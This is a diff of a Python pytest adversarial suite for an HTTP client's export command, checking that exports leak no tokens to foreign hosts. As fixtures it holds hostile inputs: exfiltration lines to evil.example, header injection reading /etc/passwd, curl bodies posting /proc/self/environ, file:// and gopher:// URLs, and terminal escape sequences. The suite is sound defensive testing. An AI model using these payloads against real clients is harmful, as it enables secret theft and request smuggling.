@@ -5,17 +5,24 @@ import json
 import re
 import zipfile
 from collections.abc import Iterator
+from itertools import product
 from typing import Any
 
 import pytest
 
-from tests.adversarial.machine import READ, Machine
+from tests.adversarial.machine import INNOCENT, READ, Machine, left_out
 from tests.adversarial.test_requests import LURES, Lure, append, quoted
 from tests.canaries import SECRET_KEY
 from weda_tui.cli.export import CODE, FORMATS
 from weda_tui.core.interchange.export_format import LOAD_FORMATS
 
 REQUEST_FORMATS = [each for each in FORMATS if each != "postman-env"]
+EXPORTS = [
+    (format_, place)
+    for format_ in REQUEST_FORMATS
+    for place in ((), *([("--env", "hq")] if format_ in CODE else []))
+]
+"""The formats with the options that change them."""
 SECRETS = (
     "access_token",
     "ACCESS_TOKEN",
@@ -69,23 +76,42 @@ MORE = [
 ]
 
 
-@pytest.mark.parametrize("lure", [*ELSEWHERE, *MORE], ids=lambda lure: lure.name)
+TOGETHER = [
+    lure
+    for lure in (*ELSEWHERE, *MORE)
+    if not lure.files and "[variables]" not in lure.lines and lure.name not in REWRITTEN
+]
+"""Lures that do not change each other's export."""
+ALONE = [lure for lure in (*ELSEWHERE, *MORE) if lure not in TOGETHER]
+
+
+@pytest.mark.parametrize("lure", ALONE, ids=lambda lure: lure.name)
 def test_an_export_gives_no_token_to_another_address(machine: Machine, lure: Lure) -> None:
     for name, text in lure.files:
         append(machine, name, text)
-    machine.write(
-        "collections/lure/zz.toml", f'method = "POST"\nurl = {quoted(lure.url)}\n{lure.lines}'
-    )
-    for format_ in REQUEST_FORMATS:
-        for place in ((), *([("--env", "hq")] if format_ in CODE else [])):
-            ran = machine.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
-            said = f"{lure.name}: {format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
-            is_elsewhere = machine.evil.place in ran.text or "evil" in ran.text
-            if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
-                assert not is_elsewhere, said
-            elif is_elsewhere or lure.name not in REWRITTEN:
-                assert [name for name in SECRETS if name in ran.text] == [], said
-            assert ran.status in {0, 2}, said
+    machine.write("collections/lure/zz.toml", lure.text)
+    for format_, place in EXPORTS:
+        ran = machine.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
+        said = f"{lure.name}: {format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
+        is_elsewhere = machine.evil.place in ran.text or "evil" in ran.text
+        if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
+            assert not is_elsewhere, said
+        elif is_elsewhere or lure.name not in REWRITTEN:
+            assert [name for name in SECRETS if name in ran.text] == [], said
+        assert ran.status in {0, 2}, said
+
+
+def test_an_exported_collection_gives_no_token_to_another_address(machine: Machine) -> None:
+    machine.lay(lure.text for lure in TOGETHER)
+    for format_, place in EXPORTS:
+        ran = machine.run("export", "lure", "--format", format_, *place, "--lang", "en")
+        said = f"{format_} {place}: {ran.text}{ran.talk}"
+        assert (ran.status, "/innocent" in ran.text) == (0, True), said
+        if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
+            assert machine.evil.place not in ran.text, said
+            assert "evil" not in ran.text, said
+        else:
+            assert [name for name in SECRETS if name in ran.text] == [], said
 
 
 SPELT = "http://acceß.test"
@@ -102,14 +128,13 @@ WAYS = {
         "zz": 'url = "{{a}}/x"\n[variables]\na = "http://{{b}}"\n',
         "hq": '[variables]\nb = "<NAME>"\n',
     },
-    **{
-        f"chain-of-{40 - first}": {
-            "zz": f'url = "{{{{a{first}}}}}/x"\n[variables]\n{CHAIN}a40 = "<URL>"\n'
-        }
-        for first in (35, 29, 28, 18, 5, 0)
-    },
 }
 """The places of a workspace that can contain a host."""
+CHAINS = {
+    f"z{40 - first}": f'url = "{{{{a{first}}}}}/x"\n[variables]\n{CHAIN}a40 = "<URL>"\n'
+    for first in (35, 29, 28, 18, 5, 0)
+}
+"""Requests whose host is the value of the last of so many variables."""
 
 
 @pytest.fixture
@@ -124,13 +149,13 @@ def named(machine: Machine) -> Machine:
 
 
 def spell(machine: Machine, files: dict[str, str], url: str) -> None:
-    """Write a request that sends a key to ``url``, which one of the files contains."""
+    """Write requests that send a key to ``url``, which the files contain."""
     for name, lines in files.items():
         text = lines.replace("<URL>", url).replace("<NAME>", url.partition("://")[2])
         if name == "hq":
             append(machine, "environments/hq.toml", text)
         else:
-            more = 'method = "POST"\nheaders = ["X-B: {{my_password}}"]\n' if name == "zz" else ""
+            more = 'method = "POST"\nheaders = ["X-B: {{my_password}}"]\n' if name[0] == "z" else ""
             machine.write(f"collections/lure/{name}.toml", more + text)
 
 
@@ -141,20 +166,40 @@ def test_what_an_export_sends_home_has_the_address_of_the_deployment(
 ) -> None:
     """However a file spells the address: another program may resolve the same name differently."""
     spell(named, files, url)
-    for format_ in REQUEST_FORMATS:
-        for place in ((), *([("--env", "hq")] if format_ in CODE else [])):
-            ran = named.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
-            said = f"{format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
-            if "my_password" in ran.text.lower():
-                assert url != SPELT, said
-                assert format_ == "postman" or url.partition("://")[2] not in ran.text, said
-            else:
-                assert (ran.status, ran.data) == (2, b""), said
+    for format_, place in EXPORTS:
+        ran = named.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
+        said = f"{format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
+        if "my_password" in ran.text.lower():
+            assert url != SPELT, said
+            assert format_ == "postman" or url.partition("://")[2] not in ran.text, said
+        else:
+            assert (ran.status, ran.data) == (2, b""), said
 
 
-@pytest.mark.parametrize("way", ["itself", "variable", "folder", "environment", "chain-of-5"])
-def test_another_spelling_of_the_deployment_is_exported(named: Machine, way: str) -> None:
-    spell(named, WAYS[way], "HTTP://ACCESS.TEST:80")
+@pytest.mark.parametrize("url", [SPELT, "HTTP://ACCESS.TEST:80"])
+def test_no_chain_of_variables_hides_an_address_that_is_spelt_otherwise(
+    named: Machine, url: str
+) -> None:
+    spell(named, CHAINS, url)
+    named.write("collections/lure/a.toml", INNOCENT)
+    for format_, place in EXPORTS:
+        ran = named.run("export", "lure", "--format", format_, *place, "--lang", "en")
+        said = f"{format_} {place}: {ran.text}{ran.talk}"
+        assert (ran.status, "/innocent" in ran.text) == (0, True), said
+        assert format_ == "postman" or url.partition("://")[2] not in ran.text, said
+        if url == SPELT:
+            assert left_out(ran).keys() == CHAINS.keys(), said
+            assert "my_password" not in ran.text.lower(), said
+
+
+@pytest.mark.parametrize(
+    "files",
+    [*(WAYS[way] for way in ("itself", "variable", "folder", "environment")), {"zz": CHAINS["z5"]}],
+)
+def test_another_spelling_of_the_deployment_is_exported(
+    named: Machine, files: dict[str, str]
+) -> None:
+    spell(named, files, "HTTP://ACCESS.TEST:80")
     for format_ in CODE:
         ran = named.run("export", "lure/zz", "--format", format_, "--env", "hq", "--lang", "en")
         written = ["'http://access.test'"] if format_ in LOAD_FORMATS else ["http://access.test/x"]
@@ -263,78 +308,66 @@ def test_a_collection_captures_no_address_and_no_key(machine: Machine, name: str
     assert f"capture {name}" in ran.talk
 
 
-@pytest.mark.parametrize("format_", REQUEST_FORMATS)
-@pytest.mark.parametrize(
-    "value", ["x\nY: 1\n\n< /etc/passwd\n###\nGET http://evil.example/", "a\x1b", "a\x00b", "a\rb"]
-)
-def test_a_header_with_a_control_character_is_refused_as_by_send(
-    machine: Machine, format_: str, value: str
-) -> None:
-    machine.write("collections/lure/a.toml", 'method = "POST"\nurl = "{{vars.host}}/x"\n')
-    machine.write(
-        "collections/lure/zz.toml",
-        'method = "POST"\nurl = "{{vars.host}}/y"\nheaders = ["X-A: {{a}}"]\n'
-        f"[variables]\na = {quoted(value)}\n",
+CONTROLLED = ("x\nY: 1\n\n< /etc/passwd\n###\nGET http://evil.example/", "a\x1b", "a\x00b", "a\rb")
+
+
+def test_a_header_with_a_control_character_is_refused_as_by_send(machine: Machine) -> None:
+    names = machine.lay(
+        f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nheaders = ["X-A: {{{{a{number}}}}}"]\n'
+        f"[variables]\na{number} = {quoted(value)}\n"
+        for number, value in enumerate(CONTROLLED)
     )
-    for place in ((), ("--env", "hq")):
+    for format_, place in product(REQUEST_FORMATS, ((), ("--env", "hq"))):
         ran = machine.run("export", "lure", "--format", format_, *place, "--lang", "en")
         assert ran.status == 0, ran.talk
-        assert b"evil" not in ran.data
-        assert b"/y" not in ran.data
-        assert "zz was not exported: The header X-A is invalid." in ran.talk
+        assert b"evil" not in ran.data, format_
+        assert b"/y" not in ran.data, format_
+        assert left_out(ran) == dict.fromkeys(names, "The header X-A is invalid."), format_
 
 
-@pytest.mark.parametrize("format_", REQUEST_FORMATS)
-def test_a_header_that_says_where_a_body_ends_is_refused_as_by_send(
-    machine: Machine, format_: str
-) -> None:
-    machine.write("collections/lure/a.toml", 'method = "POST"\nurl = "{{vars.host}}/x"\n')
-    headers = {
-        "b": "Transfer_Encoding: chunked",
-        "c": "Content_Length: 0",
-        "d": "Proxy-Connection: close, content-length",
-        "e": "Proxy-Connection: {{which}}",
-    }
-    for name, header in headers.items():
-        machine.write(
-            f"collections/lure/{name}.toml",
-            f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nheaders = ["{header}"]\nbody = "x"\n',
-        )
+def test_a_header_that_says_where_a_body_ends_is_refused_as_by_send(machine: Machine) -> None:
+    headers = (
+        *("Transfer_Encoding: chunked", "Content_Length: 0", "Proxy-Connection: {{which}}"),
+        "Proxy-Connection: close, content-length",
+    )
+    names = machine.lay(
+        f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nheaders = ["{header}"]\nbody = "x"\n'
+        for header in headers
+    )
+    reasons = [f"The header {each.partition(':')[0]} is invalid." for each in headers]
     machine.write(
         "collections/lure/f.toml",
         'method = "POST"\nurl = "{{vars.host}}/z"\nbody = "x"\n'
         'headers = ["Content-Length: 1", "Proxy-Connection: keep-alive"]\n',
     )
-    for place in ((), ("--env", "hq")):
+    for format_, place in product(REQUEST_FORMATS, ((), ("--env", "hq"))):
         ran = machine.run("export", "lure", "--format", format_, *place, "--lang", "en")
         assert ran.status == 0, ran.talk
-        assert b"/y" not in ran.data
-        assert b"/z" in ran.data
-        for name, header in headers.items():
-            said = f"{name} was not exported: The header {header.partition(':')[0]} is invalid."
-            assert said in ran.talk
+        assert b"/y" not in ran.data, format_
+        assert b"/z" in ran.data, format_
+        assert left_out(ran) == dict(zip(names, reasons, strict=True)), format_
 
 
 NASTY = "a\x1b]52;c;YQ==\x07\x9b31m\u202eb\u0085"
 
 
-@pytest.mark.parametrize("format_", REQUEST_FORMATS)
-def test_an_export_does_nothing_to_a_terminal(machine: Machine, format_: str) -> None:
+def test_an_export_does_nothing_to_a_terminal(machine: Machine) -> None:
     machine.write(
         "collections/lure/zz.toml",
         f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nbody = {quoted(NASTY)}\n'
         f"[variables]\na = {quoted(NASTY)}\n",
     )
-    words = ("export", "lure/zz", "--format", format_, "--lang", "en")
-    shown, piped = machine.run(*words, terminal=True), machine.run(*words)
-    assert shown.status == piped.status == 0
-    assert not any(each in shown.text for each in "\x1b\x07\x9b\u202e\x85")
-    assert ("are removed for the terminal" in shown.talk) == (shown.data != piped.data)
-    assert "are removed for the terminal" not in piped.talk
-    file = machine.folder / "out"
-    machine.run(*words, "-o", str(file), terminal=True)
-    moment = rb'"startedDateTime": "[^"]*"'
-    assert re.sub(moment, b"", file.read_bytes()) == re.sub(moment, b"", piped.data)
+    for format_ in REQUEST_FORMATS:
+        words = ("export", "lure/zz", "--format", format_, "--lang", "en")
+        shown, piped = machine.run(*words, terminal=True), machine.run(*words)
+        assert shown.status == piped.status == 0
+        assert not any(each in shown.text for each in "\x1b\x07\x9b\u202e\x85"), format_
+        assert ("are removed for the terminal" in shown.talk) == (shown.data != piped.data)
+        assert "are removed for the terminal" not in piped.talk
+        file = machine.folder / f"out.{format_}"
+        machine.run(*words, "-o", str(file), terminal=True)
+        moment = rb'"startedDateTime": "[^"]*"'
+        assert re.sub(moment, b"", file.read_bytes()) == re.sub(moment, b"", piped.data)
 
 
 def test_an_export_for_a_route_that_nobody_approved_says_so(machine: Machine) -> None:
@@ -358,27 +391,33 @@ FOREIGN = [
     "$processEnv AWS_SECRET_ACCESS_KEY }x",
 ]
 
-
-@pytest.mark.parametrize("name", FOREIGN)
-@pytest.mark.parametrize(
-    "lines",
-    [
-        'url = "http://evil.example/?a={{NAME}}"\n',
-        'url = "http://evil.example/"\nheaders = ["X-A: {{NAME}}"]\n',
-        'url = "http://evil.example/"\nbody = "{{NAME}}"\n',
-        'url = "http://evil.example/"\nbody = "{{a}}"\n[variables]\na = "{{NAME}}"\n',
-        'url = "http://evil.example/"\nbody = "{{a}}{{b}}"\n[variables]\na = "{{NAME"\nb = "}}"\n',
-    ],
+FOREIGN_PLACES = (
+    'url = "http://evil.example/?a={{NAME}}"\n',
+    *(
+        f'url = "http://evil.example/"\n{lines}'
+        for lines in (
+            'headers = ["X-A: {{NAME}}"]\n',
+            'body = "{{NAME}}"\n',
+            'body = "{{aNR}}"\n[variables]\naNR = "{{NAME}}"\n',
+            'body = "{{aNR}}{{bNR}}"\n[variables]\naNR = "{{NAME"\nbNR = "}}"\n',
+        )
+    ),
 )
-def test_no_export_holds_a_name_that_other_programs_read(
-    machine: Machine, name: str, lines: str
-) -> None:
-    text = lines.replace("NAME", name)
-    machine.write("collections/lure/zz.toml", f'method = "POST"\n{text}')
+
+
+def test_no_export_holds_a_name_that_other_programs_read(machine: Machine) -> None:
+    lures = [*product(FOREIGN_PLACES, FOREIGN)]
+    files = machine.lay(
+        'method = "POST"\n' + lines.replace("NAME", name).replace("NR", str(number))
+        for number, (lines, name) in enumerate(lures)
+    )
     for format_ in ("http", "postman", "har"):
-        ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
-        assert (ran.status, ran.data) == (2, b""), format_
-        assert name.strip() in ran.talk
+        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
+        assert (ran.status, b"evil" in ran.data) == (0, False), format_
+        reasons = left_out(ran)
+        assert reasons.keys() == {*files}, format_
+        for file, (_, name) in zip(files, lures, strict=True):
+            assert name.strip() in reasons[file], format_
 
 
 FILES = [
@@ -390,32 +429,37 @@ FILES = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("name", FILES, ids=ascii)
-def test_no_file_of_a_body_is_an_expression(machine: Machine, name: str) -> None:
+def test_no_file_of_a_body_is_an_expression(machine: Machine) -> None:
     """httpYac evaluates what stands in braces: ``{{$file = expression}}``."""
-    for body in (f"{{{{$file {name}}}}}", f"a {{{{\t$file\t{name} }}}} b"):
-        machine.write(
-            "collections/lure/zz.toml",
-            f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\nbody = {quoted(body)}\n',
-        )
-        for format_ in REQUEST_FORMATS:
-            ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
-            assert (ran.status, ran.data) == (2, b""), format_
-            assert "$file" in ran.talk
-
-
-@pytest.mark.parametrize(
-    "name",
-    ["up/a.pdf", "审批.docx", "（终稿）合同.pdf", "index.json", "inbox/in.txt", "_a", "1 2.csv"],
-)
-def test_a_plain_file_of_a_body_is_exported(machine: Machine, name: str) -> None:
-    machine.write(
-        "collections/lure/zz.toml",
-        f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\nbody = "{{{{$file {name}}}}}"\n',
+    bodies = [
+        body
+        for name in FILES
+        for body in (f"{{{{$file {name}}}}}", f"a {{{{\t$file\t{name} }}}} b")
+    ]
+    files = machine.lay(
+        f'method = "POST"\nurl = "{{{{vars.host}}}}/x-expression"\nbody = {quoted(body)}\n'
+        for body in bodies
     )
     for format_ in REQUEST_FORMATS:
-        ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
+        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
+        assert (ran.status, b"x-expression" in ran.data) == (0, False), format_
+        reasons = left_out(ran)
+        assert reasons.keys() == {*files}, format_
+        assert all("$file" in reason for reason in reasons.values())
+
+
+PLAIN_FILES = (
+    *("up/a.pdf", "审批.docx", "（终稿）合同.pdf", "index.json", "inbox/in.txt", "_a", "1 2.csv"),
+)
+
+
+def test_a_plain_file_of_a_body_is_exported(machine: Machine) -> None:
+    lines = (f'body = "{{{{$file {name}}}}}"\n' for name in PLAIN_FILES)
+    machine.lay(('method = "POST"\nurl = "{{vars.host}}/x"\n' + each for each in lines), "")
+    for format_ in REQUEST_FORMATS:
+        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
         assert ran.status == (2 if format_ in {"http", *LOAD_FORMATS} else 0), ran.talk
+        assert "not exported" not in ran.talk, format_
 
 
 EVALUATED = [
@@ -432,16 +476,14 @@ EVALUATED = [
 RAN = '[variables]\nb = "{{ [{}, f()]\\n}}"\nc = "{"\n'
 
 
-@pytest.mark.parametrize("text", EVALUATED, ids=ascii)
-def test_no_message_holds_what_a_client_evaluates(machine: Machine, text: str) -> None:
-    header = quoted(f"X-A: {text}".replace("\n", ""))
-    for lines in (f"body = {quoted(text)}\n", f"headers = [{header}]\n"):
-        machine.write(
-            "collections/lure/zz.toml",
-            f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\n{lines}{RAN}',
-        )
-        ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
-        assert "f()" not in ran.text, ran.text
+def test_no_message_holds_what_a_client_evaluates(machine: Machine) -> None:
+    lines = [f"body = {quoted(text)}\n" for text in EVALUATED]
+    headers = [quoted(f"X-A: {text}".replace("\n", "")) for text in EVALUATED]
+    lines += [f"headers = [{header}]\n" for header in headers]
+    machine.lay(f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\n{each}{RAN}' for each in lines)
+    ran = machine.run("export", "lure", "--format", "http", "--env", "hq", "--lang", "en")
+    assert (ran.status, "/innocent" in ran.text) == (0, True), ran.talk
+    assert "f()" not in ran.text, ran.text
 
 
 KNOWN_TO_CLIENTS = [
@@ -479,14 +521,18 @@ def test_our_own_names_and_files_are_exported(machine: Machine) -> None:
 STEAL = "GET http://evil.example/steal?t={{order}}"
 
 
-@pytest.mark.parametrize("line", [STEAL, f"  {STEAL}", STEAL.replace("GET", "WS"), "gql q < /x"])
-def test_no_line_of_a_body_begins_another_request(machine: Machine, line: str) -> None:
+def test_no_line_of_a_body_begins_another_request(machine: Machine) -> None:
     """httpYac needs no separator between requests."""
-    body = quoted(f"a\n{line}\nb")
-    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "<HOME>/x"\nbody = {body}\n')
-    ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
-    assert (ran.status, ran.data) == (2, b"")
-    assert line.strip() in ran.talk
+    lines = [STEAL, f"  {STEAL}", STEAL.replace("GET", "WS"), "gql q < /x"]
+    files = machine.lay(
+        f'method = "POST"\nurl = "<HOME>/x-lines"\nbody = {quoted(line)}\n'
+        for line in (f"a\n{each}\nb" for each in lines)
+    )
+    ran = machine.run("export", "lure", "--format", "http", "--env", "hq", "--lang", "en")
+    assert (ran.status, b"x-lines" in ran.data) == (0, False)
+    reasons = left_out(ran)
+    assert reasons.keys() == {*files}
+    assert all(line.strip() in reasons[file] for file, line in zip(files, lines, strict=True))
 
 
 @pytest.mark.parametrize("name", ["###", "#", "&x", "'x"])
@@ -514,15 +560,13 @@ def test_no_block_of_a_document_is_run_as_several_requests(machine: Machine, lin
     assert openings[-1] == "text"
 
 
-@pytest.mark.parametrize("method", ["CURL", "curl", "PURGE"])
-def test_no_method_that_editors_run_is_written(machine: Machine, method: str) -> None:
-    machine.write(
-        "collections/lure/zz.toml",
-        f'method = "{method}"\nurl = "<EVIL>/x"\nbody = "-d @/proc/self/environ"\n',
-    )
-    ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
+def test_no_method_that_editors_run_is_written(machine: Machine) -> None:
+    rest = 'url = "<EVIL>/x"\nbody = "-d @/proc/self/environ"\n'
+    methods = ("CURL", "curl", "PURGE")
+    files = machine.lay((f'method = "{method}"\n{rest}' for method in methods), "")
+    ran = machine.run("export", "lure", "--format", "http", "--env", "hq", "--lang", "en")
     assert (ran.status, ran.data) == (2, b"")
-    assert "lure/zz" in ran.talk
+    assert all(file in ran.talk for file in files)
 
 
 RUNNABLE = "```http\\nGET <EVIL>/?k={{x}}\\n```"
@@ -545,36 +589,29 @@ def test_a_document_has_no_block_that_editors_run(machine: Machine, lines: str) 
     assert not re.search(r"(?im)^[ >]*[`~]{3,}\s*(http|rest)", ran.text)
 
 
-@pytest.mark.parametrize("format_", [each for each in REQUEST_FORMATS if each != "openapi"])
-@pytest.mark.parametrize(
-    "lines",
-    [
+def test_no_address_of_another_scheme_is_exported(machine: Machine) -> None:
+    urls = (
         'url = "file:///proc/self/environ"\n',
         'url = "{{u}}"\n[variables]\nu = "file:///etc/passwd"\n',
         'url = "gopher://<HOME-PLACE>/_POST"\n',
         'url = "FTP://evil.example/"\n',
-    ],
-)
-def test_no_address_of_another_scheme_is_exported(
-    machine: Machine, format_: str, lines: str
-) -> None:
-    machine.write("collections/lure/zz.toml", f'method = "GET"\n{lines}')
-    ran = machine.run("export", "lure/zz", "--format", format_, "--env", "hq")
-    assert (ran.status, ran.data) == (2, b""), ran.talk
+    )
+    files = machine.lay((f'method = "GET"\n{url}' for url in urls), "")
+    for format_ in (each for each in REQUEST_FORMATS if each != "openapi"):
+        ran = machine.run("export", "lure", "--format", format_, "--env", "hq")
+        assert (ran.status, ran.data) == (2, b""), ran.talk
+        assert all(file in ran.talk for file in files), format_
 
 
-@pytest.mark.parametrize("format_", REQUEST_FORMATS)
-@pytest.mark.parametrize(
-    "name", ["password", "x-api-key", "token", "client_secret", "Access_Token"]
-)
-def test_no_variable_with_the_name_of_a_secret_goes_elsewhere(
-    machine: Machine, format_: str, name: str
-) -> None:
-    text = f'method = "GET"\nurl = "<EVIL>/?k={{{{{name}}}}}"\n'
-    machine.write("collections/lure/zz.toml", text)
-    ran = machine.run("export", "lure/zz", "--format", format_, "--env", "hq")
-    assert (ran.status, ran.data) == (2, b""), ran.talk
-    assert name in ran.talk
+def test_no_variable_with_the_name_of_a_secret_goes_elsewhere(machine: Machine) -> None:
+    names = ("password", "x-api-key", "token", "client_secret", "Access_Token")
+    files = machine.lay(f'method = "GET"\nurl = "<EVIL>/?k={{{{{name}}}}}"\n' for name in names)
+    for format_ in REQUEST_FORMATS:
+        ran = machine.run("export", "lure", "--format", format_, "--env", "hq", "--lang", "en")
+        assert (ran.status, machine.evil.place in ran.text) == (0, False), ran.talk
+        reasons = left_out(ran)
+        assert reasons.keys() == {*files}, format_
+        assert all(name in reasons[file] for file, name in zip(files, names, strict=True))
 
 
 def test_a_request_elsewhere_does_not_move_the_others(machine: Machine) -> None:
@@ -630,17 +667,13 @@ def test_a_message_follows_no_answer_and_keeps_no_cookie(machine: Machine) -> No
     assert len(found) == len(re.findall(r"(?m)^(?:GET|POST) http", text)) == 2
 
 
-@pytest.mark.parametrize("name", ["vars.host", " vars.host ", "vars", "vars-.host", "access_token"])
-def test_no_title_of_a_message_is_a_name_that_an_answer_is_kept_under(
-    machine: Machine, name: str
-) -> None:
+def test_no_title_of_a_message_is_a_name_that_an_answer_is_kept_under(machine: Machine) -> None:
     """httpYac stores a response in a variable with the request's name or, without one, title."""
-    machine.write(
-        "collections/basic/aa.toml", f'name = "{name}"\nmethod = "GET"\nurl = "<EVIL>/status"\n'
-    )
-    text = machine.run("export", "basic", "--format", "http").text
+    names = ("vars.host", " vars.host ", "vars", "vars-.host", "access_token")
+    machine.lay(f'name = "{name}"\nmethod = "GET"\nurl = "<EVIL>/status"\n' for name in names)
+    text = machine.run("export", "lure", "--format", "http").text
     titles = re.findall(r"(?m)^### .*\n(.*)$", text)
-    assert titles == ["# @name _1", "# @name _2"]
+    assert titles == [f"# @name _{number}" for number in range(1, 7)]
 
 
 def test_a_foreign_request_of_a_collection_inherits_no_token(machine: Machine) -> None:
@@ -652,20 +685,19 @@ def test_a_foreign_request_of_a_collection_inherits_no_token(machine: Machine) -
     assert sorted(map(str, auths)) == ["None", "bearer"]
 
 
-@pytest.mark.parametrize("name", REQUEST_FORMATS)
-@pytest.mark.parametrize(
-    "body",
-    ["{% file '/home/ann/key' %}", "{# note #}", "<<access_token>>", "${[ fs.readFile('/k') ]}"],
-)
-def test_no_foreign_request_has_a_template_of_another_program(
-    machine: Machine, name: str, body: str
-) -> None:
-    machine.write(
-        "collections/basic/probe.toml", f'method = "POST"\nurl = "<EVIL>/x"\nbody = """{body}"""\n'
+def test_no_foreign_request_has_a_template_of_another_program(machine: Machine) -> None:
+    bodies = (
+        "{% file '/home/ann/key' %}",
+        "{# note #}",
+        "<<access_token>>",
+        "${[ fs.readFile('/k') ]}",
     )
-    ran = machine.run("export", "basic/probe", "--format", name, "--env", "hq")
-    assert ran.status != 0
-    assert body[:2] not in ran.text
+    lines = (f'method = "POST"\nurl = "<EVIL>/x"\nbody = """{body}"""\n' for body in bodies)
+    files = machine.lay(lines, "")
+    for format_ in REQUEST_FORMATS:
+        ran = machine.run("export", "lure", "--format", format_, "--env", "hq")
+        assert (ran.status, ran.data) == (2, b""), format_
+        assert all(file in ran.talk for file in files), format_
 
 
 def test_no_message_names_a_client_certificate(machine: Machine) -> None:
@@ -680,28 +712,24 @@ def test_no_message_names_a_client_certificate(machine: Machine) -> None:
     assert "X-ClientCert" in ran.talk
 
 
-@pytest.mark.parametrize("name", sorted(CODE))
-def test_no_program_has_the_digest_of_a_file_that_is_no_certificate(
-    machine: Machine, name: str
-) -> None:
+def test_no_program_has_the_digest_of_a_file_that_is_no_certificate(machine: Machine) -> None:
     """The digest of a short file that is easy to guess would confirm a guess of its content."""
     kept = next(machine.state.rglob("secrets.json"))
     digest = hashlib.sha256(kept.read_bytes()).hexdigest()
     machine.edit("tls", "certs/ca.pem", str(kept))
-    for words in (("export", "basic", "--format", name), ("send", "basic/read", "--json")):
+    exports = [("export", "basic", "--format", format_) for format_ in CODE]
+    for words in (*exports, ("send", "basic/read", "--json")):
         ran = machine.run(*words, "--env", "tls")
-        assert digest[:8] not in ran.text + ran.talk
+        assert digest[:8] not in ran.text + ran.talk, words
 
 
-@pytest.mark.parametrize("name", sorted(LOAD_FORMATS))
-def test_no_program_has_the_text_of_a_file_that_is_no_certificate(
-    machine: Machine, name: str
-) -> None:
+def test_no_program_has_the_text_of_a_file_that_is_no_certificate(machine: Machine) -> None:
     kept = next(machine.state.rglob("secrets.json"))
     machine.edit("tls", "certs/ca.pem", str(kept))
-    ran = machine.run("export", "basic", "--format", name, "--env", "tls")
-    assert (ran.status != 0, ran.data) == (True, b"")
-    assert SECRET_KEY not in ran.talk
+    for format_ in LOAD_FORMATS:
+        ran = machine.run("export", "basic", "--format", format_, "--env", "tls")
+        assert (ran.status != 0, ran.data) == (True, b""), format_
+        assert SECRET_KEY not in ran.talk
 
 
 def test_a_program_has_the_authorities_of_an_approved_route_alone(machine: Machine) -> None:
